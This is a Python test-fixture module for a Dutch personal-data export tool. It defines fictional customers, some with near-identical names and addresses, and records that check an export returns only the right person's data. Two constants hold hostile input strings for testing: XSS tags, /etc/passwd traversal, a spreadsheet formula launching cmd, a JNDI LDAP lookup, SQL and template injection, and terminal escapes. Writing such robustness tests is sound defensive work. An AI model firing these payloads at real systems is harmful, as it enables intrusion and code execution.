"""Who stands in the system under test, and what it holds about them."""

from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

from overdracht.identifiers import Identifier, Kinds
from overdracht.people import CLUB, NAMESAKE, NEIGHBOUR, PIET, SANNE, ZOE
from overdracht.subject import Subject
from overdracht.world import Person

START = datetime(2024, 3, 1, 9, 30, tzinfo=UTC)

TREASURER = Person("treasurer", "Joost van den Brink", CLUB.emails, customer="K10032")
"""Another customer who is reached at the club's address."""

NEARLY = Person("nearly", "Sanne van den Berg", ("psanne@vanderberg.example",), customer="K100230")
"""Sanne's address with a letter before it, her name with a letter more, her number with a digit more."""

STRANGER = Person(
    "stranger",
    "Oltje Wierdsma",
    ("oltje@nergens.example",),
    phone="06-12340000",
    iban="NL16VICT0000424242",
    customer="K99999",
    domains=("nergens.example",),
)
"""Nobody the system has ever heard of."""

HOSTILE_TITLE = (
    "\x1b[31m<script>alert(1)</script>\r\n../../etc/passwd\x00\u202etxt.exe =cmd|'/c calc'!A1"
)
HOSTILE_TEXT = (
    "From sanne@vanderberg.example Fri Mar  1 09:30:00 2024\n>From \x1b]0;pwned\x07 </td><img src=x onerror=alert(1)>\n.\n"
    "\xff\xfe\u2028 ${jndi:ldap://x.example} ' OR 1=1 -- {{7*7}} %s%n"
)


@dataclass(frozen=True, slots=True)
class Record:
    """One thing for a harness to put into its system.

    The *token* is one ASCII word that stands in nothing else and comes out again, as it is, in the export of this thing.
    """

    token: str
    person: Person
    """Whose it is: it stands in the fields that say so, with whichever of the values the system has fields for."""
    title: str
    text: str
    when: datetime
    second_part: bool = False
    """It belongs in the second of the two parts (folders, tables, files) that a harness makes."""


def _records() -> Iterator[Record]:
    mentioned = f"Doorgestuurd namens {SANNE.email} (mobiel), zie bijlage."
    for number, (person, title, text, second_part) in enumerate(
        (
            (SANNE, "Offerte glasvezel Kerkstraat", "Graag akkoord voor vrijdag.", False),
            (SANNE, "Factuur 2024-0117", "Termijn 14 dagen.", True),
            (SANNE, HOSTILE_TITLE, "Onschuldig.", False),
            (SANNE, "Storing mailbox", HOSTILE_TEXT, True),
            (SANNE, "", "Zonder onderwerp.", True),
            (NAMESAKE, "Draaischijf bestellen", "Sanne hier, van Kleikunst.", False),
            (NAMESAKE, "Oven", "Groet, Sanne van der Berg", True),
            (PIET, "Vraag van een kennis", mentioned, True),
            (PIET, "Verhuizing", "Per 1 mei ander adres.", False),
            (NEIGHBOUR, "Bijna hetzelfde adres", "Groet, Susanne", False),
            (NEARLY, "Eén letter te veel", "Groet van een ander.", True),
            (ZOE, "Privé: naïeve café-rekening", "Één déjà vu, groet Zoë", True),
            (CLUB, "Contributie", "Namens het bestuur.", False),
            (TREASURER, "Kascontrole", "Namens de penningmeester.", True),
        ),
        start=1,
    ):
        when = START + timedelta(days=number, minutes=7 * number)
        yield Record(f"tok{number:05}", person, title, text, when, second_part)


RECORDS = tuple(_records())
MENTION = next(one for one in RECORDS if SANNE.email in one.text and one.person is PIET)
"""Somebody else's, with Sanne's e-mail address in its free text."""


def crowd(count: int, first: int = 10_000) -> Iterator[Record]:
    """Yield *count* more records of Sanne's, in the first part, with tokens from number *first* on."""
    for number in range(first, first + count):
        when = START + timedelta(minutes=number)
        yield Record(f"tok{number:05}", SANNE, f"Bericht {number}", "Kort bericht.", when)


def _values(person: Person) -> Mapping[str, tuple[str, ...]]:
    return {
        "email": person.emails,
        "phone": (person.phone,),
        "iban": (person.iban,),
        "customer": (person.customer,),
        "domain": person.domains,
        "kvk": (person.kvk,),
        "address": (person.address,),
        "name": (person.name,),
    }


def identifiers(person: Person, kinds: Iterable[str]) -> tuple[Identifier, ...]:
    """Return what identifies *person*, of these *kinds*, normalised."""
    known, values = Kinds(), _values(person)
    return tuple(known.identifier(kind, text) for kind in kinds for text in values[kind] if text)


def subject(person: Person, kinds: Iterable[str]) -> Subject:
    """Return the subject that a request about *person* would have."""
    return Subject(f"kit-{person.id}", identifiers(person, kinds))


def tokens(person: Person, *, second_part: bool | None = None) -> frozenset[str]:
    """Return the tokens of the records that are *person*'s, of both parts or of one."""
    return frozenset(
        one.token
        for one in RECORDS
        if one.person is person and second_part in {None, one.second_part}
    )
